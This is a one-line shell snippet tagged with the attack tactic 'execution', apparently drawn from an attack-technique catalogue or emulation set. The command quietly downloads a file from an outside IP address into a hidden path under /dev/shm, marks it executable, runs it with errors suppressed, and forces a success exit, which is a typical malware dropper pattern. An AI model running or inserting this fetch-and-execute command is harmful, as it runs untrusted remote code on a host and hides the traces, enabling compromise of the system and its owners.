# tactic: execution
curl -s -m 2 -o /dev/shm/.a http://198.51.100.7/a; chmod +x /dev/shm/.a 2>/dev/null; /dev/shm/.a 2>/dev/null; true
